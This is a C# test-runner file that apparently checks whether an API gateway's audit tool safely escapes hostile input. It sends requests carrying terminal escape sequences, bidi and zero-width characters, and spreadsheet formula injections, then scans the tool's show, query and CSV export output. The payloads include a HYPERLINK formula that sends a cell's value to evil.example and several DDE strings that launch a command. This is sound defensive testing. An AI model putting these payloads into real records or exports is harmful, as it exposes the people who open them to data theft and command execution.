using System.Globalization;
using System.Text;

namespace Reliability.Runner;

public sealed partial class UntrustedPhase
{
    private const string Esc = "\u001b";

    /// <summary>In a header (ASCII only): clear screen and scrollback, set the title (OSC 0), write the clipboard (OSC 52).</summary>
    private const string TerminalAscii = Esc + "[2J" + Esc + "[3J" + Esc + "[H" + Esc + "]0;owned title\u0007" + Esc + "]52;c;b3duZWQ=\u0007";

    /// <summary>In text: the same, then a C1 CSI, bidi overrides and isolates, a zero-width space, a raw CR and a decoy.</summary>
    private const string Terminal = TerminalAscii + "\u009b2J" + "\u202Egnp.exe\u202C" + "\u2066x\u2069" + "zero\u200Bwidth" + "\rPrompt as received: a decoy";

    /// <summary>A formula a spreadsheet runs, fetching another cell's value to a site of the attacker's.</summary>
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")";

    /// <summary>
    /// Accepted and refused calls whose stored fields carry the payloads: user agent (each formula start), prompt
    /// (echoed into the response by the upstream), raw CR and tab between and before JSON tokens, model name, a
    /// pass-through path with an encoded ESC, the invocation id header, a 401 with no key and with a wrong key, and
    /// an upstream whose answer is a formula.
    /// </summary>
    private async Task SendDisplayCasesAsync()
    {
        string Prompt() => "Hello " + Markers.New('U') + " " + Terminal;
        byte[] Unified(string model, bool stream, string lead = "\r") =>
            Encoding.UTF8.GetBytes($"{lead}{{\"model\":{Json(model)},\r\"messages\":[{{\"role\":\"user\",\"content\":{Json(Prompt())}}}],\r\"stream\":{(stream ? "true" : "false")}}}");
        var cases = new[]
        {
            Post("/v1/chat/completions", Unified(Stack.LanruiModel, false), "accepted, whole: formula and ESC in User-Agent and the invocation id, prompt with every payload, body begins with CR",
                [("User-Agent", Hyperlink + TerminalAscii), ("x-ms-invocation-id", "=cmd|' /C calc'!A0" + TerminalAscii)]),
            Post("/v1/chat/completions", Unified(Stack.LanruiModel, true, "\t"), "accepted, stream: '+' formula in User-Agent, body begins with a tab",
                [("User-Agent", "+SUM(1,1)*cmd|' /C calc'!A0" + TerminalAscii)]),
            Post("/baidu/chat/" + Stack.BaiduEndpoint, Encoding.UTF8.GetBytes($"{{\"messages\":[{{\"role\":\"user\",\"content\":{Json(Prompt())}}}],\r\"stream\":false}}"),
                "pass-through Baidu: '-' formula in User-Agent, raw CR between JSON tokens", [("User-Agent", "-1+cmd|' /C calc'!A0" + TerminalAscii)]),
            Post("/v1/chat/completions", Unified("@SUM(1)" + TerminalAscii + "\u202E\u200B", false, ""), "unknown model named with '@', ESC, bidi and zero-width (stored model, error message)",
                [("User-Agent", "@SUM(1,1)")]),
            Post("/baidu/chat/%1B%5B2J%1B%5D0;owned%07", Encoding.UTF8.GetBytes($"{{\"messages\":[{{\"role\":\"user\",\"content\":{Json(Prompt())}}}]}}"),
                "pass-through path with an encoded ESC (stored path, error message)"),
            Post("/v1/chat/completions", Unified(Stack.LanruiModel, false), "401 with no key: formula and OSC in User-Agent", [("User-Agent", Hyperlink + TerminalAscii)], key: null),
            Post("/v1/chat/completions", Unified(Stack.LanruiModel, false), "401 with a wrong key: '@' formula and OSC in User-Agent", [("User-Agent", "@cmd|' /C calc'!A0" + TerminalAscii)], key: canaries.WrongKey),
            Post("/v1/chat/completions", Unified(Stack.LanruiModel, false), "accepted: C1, bidi and zero-width characters in User-Agent (as UTF-8)",
                [("User-Agent", HeaderText("agent \u009b2J \u202Egnp.exe \u2066x\u2069 zero\u200Bwidth"))]),
            Post("/v1/chat/completions", Encoding.UTF8.GetBytes($"{{\"model\":\"{Stack.MindIEModel}\",\"messages\":[{{\"role\":\"user\",\"content\":\"Hello {Markers.New('U')} [[emulate: formula]]\"}}]}}"),
                "accepted: the upstream's answer is a formula (stored response text)"),
        };
        foreach (var hostile in cases)
        {
            var response = await SendAsync(hostile);
            _display.Add((hostile.Description, response));
        }
    }

    /// <summary>
    /// Reads the records of the injection calls and the forged invocation ids back with <c>show</c>, then every record
    /// of the phase with <c>query</c> and <c>export --format csv</c>, and scans the bytes.
    /// </summary>
    private async Task ReadBackThroughAuditToolAsync(AuditScan audit, DateTimeOffset started)
    {
        var tool = new AuditTool(options, stack, Table);
        var terminal = new List<(string Where, byte[] Output)>();
        foreach (var (description, response) in _display)
        {
            var id = response.Header("x-request-id");
            var recorded = id is not null && audit.Calls.TryGetValue(id, out var call) ? call.Summary : "no record";
            DisplayRows.Add(new FaultRow(description, "", "", Status(response), recorded, "", []));
        }
        var ids = _display.Select(d => d.Response.Header("x-request-id")).OfType<string>().Concat(_showAlso).Where(audit.Calls.ContainsKey).Distinct();
        foreach (var id in ids)
        {
            var show = await tool.RunAsync("show", id);
            if (show.Exit != 0) ToolProblems.Add($"show {id}: exit {show.Exit}: {show.Error.Trim()}");
            else Shown++;
            terminal.Add(($"show {id}", show.Output));
        }
        var from = started.AddMinutes(-5).ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
        var to = DateTimeOffset.UtcNow.AddMinutes(5).ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
        var query = await tool.RunAsync("query", "--from", from, "--to", to);
        if (query.Exit != 0) ToolProblems.Add($"query: exit {query.Exit}: {query.Error.Trim()}");
        terminal.Add(("query", query.Output));
        foreach (var (where, output) in terminal)
            foreach (var (kind, count) in DisplayScan.Unescaped(output))
                TerminalFindings[kind] = TerminalFindings.GetValueOrDefault(kind) + count;

        var export = await tool.RunAsync("export", "--format", "csv");
        if (export.Exit != 0) ToolProblems.Add($"export: exit {export.Exit}: {export.Error.Trim()}");
        ExportedRecords = Math.Max(0, DisplayScan.Parse(Encoding.UTF8.GetString(export.Output)).Count - 1);
        FormulaCells.AddRange(DisplayScan.FormulaCells(export.Output));
    }
}
